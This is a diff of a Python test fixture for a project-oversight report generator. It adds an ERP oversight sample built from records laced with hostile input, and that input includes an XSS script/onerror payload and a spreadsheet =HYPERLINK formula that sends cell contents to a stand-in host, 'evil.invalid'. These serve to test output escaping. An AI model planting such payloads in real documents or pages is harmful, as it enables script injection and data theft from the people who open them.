@@ -5,10 +5,14 @@ from __future__ import annotations
 from datetime import UTC, date, datetime
 from decimal import Decimal
 
-from pmsync.model import SourceRef
+from pmsync.model import BenefitRealised, CioRating, CostLine, GateDecision, OversightFinding, SourceRef
+from pmsync.oversight.config import ProjectOversight, oversight_settings
+from pmsync.reconcile import oversight as ov
 from pmsync.reconcile import results as r
+from pmsync.reconcile.oversight_results import OversightMeasures
 from pmsync.report import model as m
 from pmsync.report.exceptions import group_exceptions
+from pmsync.report.front_page import front_page
 
 XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")'
@@ -235,6 +239,84 @@ def web_measures() -> r.ProjectMeasures:
     )
 
 
+def erp_oversight(measures: r.ProjectMeasures) -> OversightMeasures:
+    """ERP's oversight figures, computed by reconcile's functions from a plan and hand-kept inputs
+    (with hostile text from the people who keep them)."""
+    status = measures.status_date
+    plan = ProjectOversight.model_validate(
+        {
+            "criticality_override": "high",
+            "phase": "Build",
+            "gates": [
+                {"gate": "Gate 1", "planned": "2026-02-01", "funds_planned": 600000},
+                {"gate": "Gate 2 " + XSS, "planned": "2026-10-01", "funds_planned": 600000},
+            ],
+            "contracts": [
+                {"vendor": "Acme " + XSS, "number": "C-1", "po_numbers": ["PO-1"], "value": 500000}
+            ],
+            "staffing": [{"month": "2026-01-01", "fte": 6}],
+            "benefits": [{"benefit": "Hours saved", "planned": 1000, "by": "2026-10-31", "unit": "hours"}],
+        }
+    )
+    ref = SourceRef(system="oversight_file", instance="oversight", external_id="findings:F-1")
+    finding = OversightFinding(
+        source=ref, project="ERP", recorded_by="IV&V " + PLUS_CMD, title="No load test " + XSS,
+        severity="high", corrective_action=HYPERLINK, owner="QA lead", due=date(2026, 11, 15),
+        raised_on=date(2026, 9, 30),
+    )  # fmt: skip
+    decision = GateDecision(
+        source=ref.model_copy(update={"external_id": "gate_decisions:G1"}), project="ERP",
+        recorded_by="PRB", gate="Gate 1", decision="approved", decided_on=date(2026, 2, 3),
+        funds_released=Decimal("600000"),
+    )  # fmt: skip
+    rating = CioRating(
+        source=ref.model_copy(update={"external_id": "cio_ratings:C1"}), project="ERP",
+        recorded_by="J. Rivera (CIO)", rating=2, reason="Vendor staffing gaps " + XSS,
+        rated_on=date(2026, 11, 20),
+    )  # fmt: skip
+    paid = CostLine(
+        source=SourceRef(system="finance_file", instance="finance", external_id="INV-9"), project="ERP",
+        kind="actual", amount=Decimal("470000"), po_number="PO-1", posting_date=date(2026, 11, 3),
+    )  # fmt: skip
+    realised = BenefitRealised(
+        source=ref.model_copy(update={"external_id": "benefits_realised:B1"}), project="ERP",
+        recorded_by="Owner", benefit="Hours saved", value=Decimal("800"), measured_on=date(2026, 10, 31),
+    )  # fmt: skip
+    settings = oversight_settings({"preset": "california"})
+    gates, current, nxt, released = ov.gates(plan, [decision], status)
+    cio = ov.cio_rating([rating], settings, status)
+    benefits = ov.benefits(plan, [realised], status)
+    triggers = ov.triggers(settings.triggers, measures, benefits)
+    finding_rows = ov.findings([finding], status)
+    tripped = [t for t in triggers if t.tripped]
+    return OversightMeasures(
+        project="ERP",
+        status_date=status,
+        criticality=ov.criticality(plan, settings.criticality),
+        phase=plan.phase,
+        current_gate=current,
+        next_gate=nxt,
+        gates=gates,
+        funds_released=released,
+        cio=cio,
+        computed_overall=measures.rag.overall,
+        effective_overall=ov.effective_overall(measures.rag.overall, cio),
+        findings=finding_rows,
+        open_findings=1,
+        open_high_findings=1,
+        overdue_findings=1,
+        contracts=ov.contract_burn(plan, [paid], status, 90),
+        staffing=ov.staffing(plan, [], status),
+        benefits=benefits,
+        triggers=triggers,
+        reapproval_required=bool(tripped),
+        reapproval_reasons=[f"{t.dimension}: {t.explanation}" for t in tripped],
+        decisions_needed=["Gate 2 " + XSS + ": planned 2026-10-01, no decision recorded"],
+        preset=settings.preset,
+        preset_source=settings.source,
+    )
+
+
 def sample_report() -> m.Report:
     as_of = datetime(2026, 11, 30, 23, 59, 59, tzinfo=UTC)
     erp = m.ProjectSection(
@@ -302,6 +384,7 @@ def sample_report() -> m.Report:
             ),
         ],
         exception_groups=group_exceptions(erp_measures().exceptions),
+        oversight=erp_oversight(erp_measures()),
         changes=[
             m.Change(
                 project="ERP",
@@ -346,6 +429,12 @@ def sample_report() -> m.Report:
                 name="Cutover " + XSS, date=date(2026, 12, 17), baseline_date=date(2026, 12, 1)
             ),
             needs_attention=True,
+            cio_rating=2,
+            effective_overall="red",
+            criticality="high",
+            current_gate="Gate 1",
+            reapproval_required=True,
+            open_findings=1,
         ),
         m.PortfolioRow(
             key="WEB",
@@ -398,6 +487,7 @@ def sample_report() -> m.Report:
             by_overall={"red": 1, "amber": 0, "green": 1, "grey": 0},
         ),
         projects=[erp, web],
+        front_page=front_page([erp, web], oversight_settings({"preset": "california"})),
         changes=list(erp.changes),
         appendix=m.Appendix(
             sources=[
